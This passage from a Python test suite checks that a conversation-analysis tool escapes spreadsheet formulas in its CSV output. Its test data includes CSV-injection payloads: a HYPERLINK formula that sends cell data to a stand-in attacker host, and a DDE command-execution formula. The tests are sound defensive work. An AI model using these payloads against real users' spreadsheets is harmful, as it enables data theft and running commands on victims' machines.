            analyze_file(source, FakeAnalyzer(), out, redact=redact)
        said = str(caught.value)
        assert "no texts" not in said and "to resume it" not in said
        assert "the texts of record 1 are neither the input's nor its redaction" in said


# --- CSV cells a spreadsheet would run as formulas -------------------------------------

#: What a spreadsheet may take as the start of a formula (CSV or formula injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Texts from forum or chat users that a spreadsheet would run, or that begin with the
#: apostrophe the escape adds (so that it can always be dropped again).
FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1 555 0100, call me",
    "-5 days since it happened",
    "@SUM(1+1) I'm so sorry",
    "\tIndented with a tab",
    "\rA carriage return first",
    "'quoted, as by a spreadsheet",
    "''twice",
    "'=1+1",
    "plain, nothing to escape",
]


class SignedFlagsAnalyzer(FakeAnalyzer):
    """:class:`FakeAnalyzer` with negative flag scores, numbers that begin with ``-``."""

    def predict(self, pairs: Sequence[Exchange]) -> list[ResponseAnalysis]:
        flags = {"advice": -0.5, "self_focus": -2.0}
        return [dataclasses.replace(a, flags=flags) for a in super().predict(pairs)]


def write_formula_pairs(path: Path) -> list[dict[str, str]]:
    """A JSON Lines input whose texts, ids and names all begin like formulas; the rows."""
    rows = []
    for i, text in enumerate(FORMULA_TEXTS):
        rows.append(
            {
                "seeker_id": f"-s{i}",
                "response_id": f"=r{i}",
                "conversation_id": f"+c{i}",
                "speaker": f"@{text}",
                "seeker_speaker": text,
                "community": "'forum",
                "seeker": text,
                "response": f"{text} What happened?",
            }
        )
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return rows


def csv_cells(path: Path) -> list[list[str]]:
    """The cells of a CSV file as any CSV reader (a spreadsheet's too) sees them."""
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_output_starts_no_formula_and_reads_back_exactly(tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    rows = write_formula_pairs(source)
    for fmt in FORMATS:
        analyze_file(source, SignedFlagsAnalyzer(), tmp_path / f"out.{fmt}")
    header, *data = csv_cells(tmp_path / "out.csv")
    dangerous = [(name, cell) for row in data for name, cell in zip(header, row, strict=True)]
    dangerous = [(n, c) for n, c in dangerous if c.startswith(FORMULA_STARTS) and n[:5] != "flag_"]
    assert dangerous == []
    cells = [dict(zip(header, row, strict=True)) for row in data]
    assert cells[0]["seeker_text"] == "'" + FORMULA_TEXTS[0]  # shown as text, not run
    assert cells[7]["seeker_text"] == "''quoted, as by a spreadsheet"
    assert cells[10]["seeker_text"] == "plain, nothing to escape"  # left as it is
    # Numbers are not texts: a negative score is written as the number it is.
    assert {(c["flag_advice"], c["flag_self_focus"]) for c in cells} == {("-0.5", "-2.0")}
    # Read back, every text is what the input said, as in the exact formats.
    records = list(read_results(tmp_path / "out.csv"))
    assert records == list(read_results(tmp_path / "out.jsonl"))
    assert [r["response_text"] for r in records] == [r["response"] for r in rows]
    assert [(r["seeker_id"], r["response_id"], r["speaker"]) for r in records] == [
        (r["seeker_id"], r["response_id"], r["speaker"]) for r in rows
    ]
    assert {r["flags"]["advice"] for r in records} == {-0.5}
    # JSON Lines and Parquet keep every text exactly, with no apostrophe added.
    parquet = list(read_results(tmp_path / "out.parquet"))
    assert [r["seeker_text"] for r in parquet] == FORMULA_TEXTS
    assert "'=HYPERLINK" not in (tmp_path / "out.jsonl").read_text(encoding="utf-8")


@pytest.mark.parametrize("keep_options", [True, False])
def test_csv_with_escaped_cells_resumes_as_an_uninterrupted_run(
    tmp_path: Path, keep_options: bool
) -> None:
    # Resuming reads the records back and, without OUT.options.json (an output begun by an
    # older carelens), compares their texts with the input's: they must come back exactly.
    source = tmp_path / "in.jsonl"
    write_formula_pairs(source)
    whole = tmp_path / "whole.csv"
    analyze_file(source, FakeAnalyzer(), whole)
    out = tmp_path / "out.csv"
    interrupted_run(source, out, after_chunks=1)  # 5 records flushed
    chop(out, 3)  # the last one cut
    if not keep_options:
        options_path(out).unlink()
    summary = analyze_file(source, FakeAnalyzer(), out, chunk_size=5)
    assert (summary.resumed, summary.analysed) == (4, len(FORMULA_TEXTS) - 4)
    assert out.read_bytes() == whole.read_bytes()


def test_the_spreadsheet_escape_of_one_cell() -> None:
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("'quoted") == "''quoted"
    assert spreadsheet_safe("\r\n=x") == "'\r\n=x"
    assert spreadsheet_safe("a=b") == "a=b" and spreadsheet_safe("") == ""
    assert spreadsheet_text("''quoted") == "'quoted" and spreadsheet_text("plain") == "plain"
    assert [safe_cell(v) for v in (-0.5, -3, True, None)] == [-0.5, -3, True, None]
    assert safe_cell("-3") == "'-3"  # a text that looks like a number stays a text


@given(st.text())
@settings(max_examples=500)
def test_the_spreadsheet_escape_round_trips_and_starts_no_formula(text: str) -> None:
    cell = spreadsheet_safe(text)
    assert spreadsheet_text(cell) == text
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == "'" + text  # at most one apostrophe, in front
    if not text.startswith((*FORMULA_STARTS, "'")):
        assert cell == text


@given(st.lists(st.text(alphabet="=+-@'\t\r\na,\" ", max_size=8), min_size=2, max_size=2))
@settings(max_examples=60, deadline=None)
def test_escaped_texts_round_trip_through_a_csv_file(
    tmp_path_factory: Any, texts: list[str]
) -> None:
    folder = tmp_path_factory.mktemp("csv")
    source = folder / "in.jsonl"
    # A text is never empty (the readers reject a pair without one): one record each run.
    seeker, response = (f"{text} ok" for text in texts)
    row = {"seeker_id": "-s", "response_id": "=r", "seeker": seeker, "response": response}
    source.write_text(json.dumps(row) + "\n", encoding="utf-8")
    for fmt in ("csv", "jsonl"):
        analyze_file(source, FakeAnalyzer(), folder / f"out.{fmt}")
    records = list(read_results(folder / "out.csv"))
    assert len(records) == 1 and records == list(read_results(folder / "out.jsonl"))
    for row_cells in csv_cells(folder / "out.csv")[1:]:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row_cells[:2])


@pytest.mark.parametrize("suffix", ["jsonl", "csv", "parquet"])
def test_responses_sharing_ids_in_two_conversations_are_both_read_back(
    tmp_path: Path, suffix: str
) -> None:
    """Two threads whose numbers restart at 1: analyze writes both pairs ``1`` / ``2``, and
    reading the results back (summarize, report) kept only the first thread's, listing the
    second's as repeats. A record repeated in one conversation is still counted once."""
    if suffix == "parquet":
        pytest.importorskip("pyarrow")
    source = tmp_path / "threads.csv"
    source.write_text(
        "message_id,thread_id,parent_id,author,timestamp,text\n"
        "1,A,,sam,2024-01-01,I lost my job and feel useless.\n"
        "2,A,1,kit,2024-01-01,That sounds so discouraging.\n"
        "1,B,,lee,2024-02-01,My dog died yesterday.\n"
        "2,B,1,mo,2024-02-01,I'm so sorry. The house must feel empty.\n",
        encoding="utf-8",
    )
    out = tmp_path / f"out.{suffix}"
    assert analyze_file(source, FakeAnalyzer(), out).analysed == 2
    log = RejectLog()
    records = list(read_results(out, rejects=log))
    assert [(r["conversation_id"], r["seeker_id"], r["response_id"]) for r in records] == [
        ("A", "1", "2"),
        ("B", "1", "2"),
    ]
    assert log.counts == {}
    if suffix == "jsonl":  # the same record twice in one conversation: counted once
        lines = out.read_text(encoding="utf-8").splitlines()
        out.write_text("\n".join([*lines, lines[1]]) + "\n", encoding="utf-8")
        log = RejectLog()
        assert len(list(read_results(out, rejects=log))) == 2
        assert log.counts == {"duplicate id": 1}


def _speaker_pairs(path: Path, speakers: Sequence[str]) -> None:
    """A JSON Lines input of one pair per helper in ``speakers`` (seekers ``op0``, ...)."""
    with path.open("w", encoding="utf-8") as fh:
        for i, speaker in enumerate(speakers):
            row = {
                "seeker_id": f"s{i}",
                "response_id": f"r{i}",
                "seeker": f"Something difficult happened, number {i}.",
                "response": f"{TEXTS[i % len(TEXTS)]} ({i})",
                "speaker": speaker,
                "seeker_speaker": f"op{i}",
            }
            fh.write(json.dumps(row, ensure_ascii=False) + "\n")


def _with_bad_level(path: Path, fmt: str, index: int) -> None:
    """The result file ``path`` with a level of 7 in its record ``index``."""
    if fmt == "jsonl":
        records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
        records[index][DIMS[0]]["level"] = 7
        path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    elif fmt == "csv":
        cells = csv_cells(path)
        cells[index + 1][cells[0].index(f"{DIMS[0]}_level")] = "7"
        with path.open("w", encoding="utf-8", newline="") as fh:
            csv.writer(fh, lineterminator="\n").writerows(cells)
    else:
        pa = pytest.importorskip("pyarrow")
        import pyarrow.parquet as pq

        table = pq.read_table(path)
        rows = table.to_pylist()
        rows[index][f"{DIMS[0]}_level"] = 7
        pq.write_table(pa.Table.from_pylist(rows, schema=table.schema), path)


@pytest.mark.parametrize("fmt", FORMATS)
def test_read_results_passes_on_the_fields_of_rejected_records(tmp_path: Path, fmt: str) -> None:
    """``on_rejected`` sees each rejected record's fields as read (``--anonymize`` hides
    their speaker names in the other texts); what is read and listed stays the same."""
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    source, out = tmp_path / "in.jsonl", tmp_path / f"out.{fmt}"
    _speaker_pairs(source, ["ana", "=quiet_fern", "lee"])
    analyze_file(source, FakeAnalyzer(), out)
    _with_bad_level(out, fmt, 1)
    seen: list[Any] = []
    log = RejectLog()
    records = list(read_results(out, rejects=log, on_rejected=seen.append))
    assert [r["speaker"] for r in records] == ["ana", "lee"]
    assert [(f["speaker"], f["seeker_speaker"]) for f in seen] == [("=quiet_fern", "op1")]
    plain = RejectLog()
    assert list(read_results(out, rejects=plain)) == records
    assert plain.counts == log.counts == {"invalid field value": 1}
    with pytest.raises(InputError, match="line"):  # without rejects: an error, nothing seen
        list(read_results(out, on_rejected=seen.append))
    assert len(seen) == 1


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
@pytest.mark.parametrize("damage", ["cut", "not utf-8"])
def test_a_damaged_record_passes_on_its_whole_fields(tmp_path: Path, fmt: str, damage: str) -> None:
    """A last record cut inside its seeker text gives the fields (cells) before the cut,
    never the cut one; a record with bytes that are not UTF-8 gives its fields as read."""
    source, out = tmp_path / "in.jsonl", tmp_path / f"out.{fmt}"
    _speaker_pairs(source, ["ana", "quiet_fern"])
    analyze_file(source, FakeAnalyzer(), out)
    data = out.read_bytes()
    if damage == "cut":
        data = data[: data.rindex(b"Something difficult happened, number 1") + 9]
    else:
        data = data.replace(b"number 1.", b"number \xff1.")
    out.write_bytes(data)
    seen: list[Any] = []
    log = RejectLog()
    assert [r["speaker"] for r in read_results(out, rejects=log, on_rejected=seen.append)] == [
        "ana"
    ]
    assert log.total == 1
    (fields,) = seen
    assert (fields["speaker"], fields["seeker_speaker"]) == ("quiet_fern", "op1")
    if damage == "cut":
        assert "seeker_text" not in fields and "response_text" not in fields
    else:
        assert fields["seeker_text"] == "Something difficult happened, number \ufffd1."


@pytest.mark.parametrize(
    ("header", "value", "warned"),
    [
        ("created_at", "2026-01-02T10:05:00Z", "created_at"),
        ("createdAt", "1767348300", "createdAt"),
        ("date", "next week", None),  # a name that looks like a time, but no time in it
        ("note", "2026-01-02", None),  # a time under a name that does not look like one
    ],
)
def test_a_time_under_another_name_is_pointed_out_once(
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    header: str,
    value: str,
    warned: str | None,
) -> None:
    """A chat export's ``created_at`` is not read as the timestamp: every response was
    undated without a word, so ``summarize`` and ``report`` showed no months."""
    source = tmp_path / "thread.csv"
    source.write_text(
        f"message_id,thread_id,parent_id,author,{header},text\n"
        f"m1,t1,,a,{value},I feel so alone.\n"
        f"m2,t1,m1,b,{value},That sounds lonely.\n"
        f"m3,t1,m2,a,{value},It is.\n",
        encoding="utf-8",
    )
    with caplog.at_level("WARNING", logger="carelens"):
        analyze_file(source, FakeAnalyzer(), None)
    notes = [r.getMessage() for r in caplog.records if "looks like one" in r.getMessage()]
    if warned is None:
        assert notes == []
    else:
        assert notes == [
            f"{source}: no timestamp was read, but the field {warned!r} looks like one: read "
            f"it as the timestamp with a column map (--column-map timestamp={warned})"
        ]
        caplog.clear()
        with caplog.at_level("WARNING", logger="carelens"):
            analyze_file(source, FakeAnalyzer(), None, column_map={"timestamp": warned})
        assert not any("looks like one" in r.getMessage() for r in caplog.records)
